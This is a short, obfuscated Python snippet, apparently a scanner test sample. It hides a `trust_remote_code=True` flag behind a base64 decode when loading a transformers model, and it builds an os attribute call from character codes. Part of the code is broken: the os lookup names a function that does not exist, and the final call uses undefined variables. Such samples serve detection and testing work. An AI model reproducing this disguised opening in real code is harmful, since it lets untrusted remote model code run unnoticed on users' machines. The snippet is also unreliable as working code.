import base64, importlib, functools as ft
getattr(__import__('o' + 's'), ''.join(map(chr, [115])))('x')
f = ft.partial(importlib.import_module('transformers').AutoModel.from_pretrained, 'x')
f(trust_remote_code=base64.b64decode('VHJ1ZQ==').decode() == 'True')
{'a': f}['a'](*m, **n)
